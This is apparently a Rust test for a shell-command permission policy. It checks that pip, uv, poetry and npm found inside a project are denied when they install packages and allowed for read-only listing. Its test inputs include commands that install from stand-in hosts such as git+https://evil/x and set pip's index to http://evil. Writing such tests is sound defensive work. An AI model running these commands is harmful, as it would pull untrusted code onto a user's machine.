//! A package manager found by path (`.venv/bin/pip`, `node_modules/.bin/npm`) is judged as
//! itself: being inside the project does not make what it installs project code.

use super::Verdict;
use super::tests_everyday::project;

#[test]
fn package_managers_found_by_path_are_judged_as_themselves() {
    let dir = tempfile::tempdir().expect("temp dir");
    let root = std::fs::canonicalize(dir.path()).expect("canonical");
    let policy = project(&root);
    let bin = root.join("home/project/.venv/bin");
    std::fs::create_dir_all(&bin).expect("mkdir");
    let stub = "#!/usr/bin/python3\nfrom pip._internal.cli.main import main\n";
    for name in ["pip", "pip3", "pip3.12", "uv", "poetry"] {
        std::fs::write(bin.join(name), stub).expect("stub");
    }
    let npm = root.join("home/project/node_modules/.bin/npm");
    std::fs::write(npm, "#!/usr/bin/env node\n").expect("npm");
    let asks = [
        ".venv/bin/pip install /tmp/evil",
        ".venv/bin/pip install -e ../x",
        ".venv/bin/pip wheel /tmp/evil",
        ".venv/bin/pip config set global.index-url http://evil",
        ".venv/bin/pip install git+https://evil/x",
        ".venv/bin/pip3 uninstall -y pip",
        ".venv/bin/pip3.12 install x",
        "./.venv/bin/uv pip install x",
        ".venv/bin/poetry add x",
        "node_modules/.bin/npm install /tmp/x",
    ];
    let wrong: Vec<String> = asks
        .iter()
        .map(|line| (line, policy.command(line)))
        .filter(|(_, got)| got.verdict == Verdict::Allow)
        .map(|(line, got)| format!("{line:?}: {:?}", got.reasons))
        .collect();
    assert!(wrong.is_empty(), "allowed:\n{}", wrong.join("\n"));
    for line in [".venv/bin/pip list", ".venv/bin/pip freeze"] {
        assert_eq!(policy.command(line).verdict, Verdict::Allow, "{line}");
    }
}
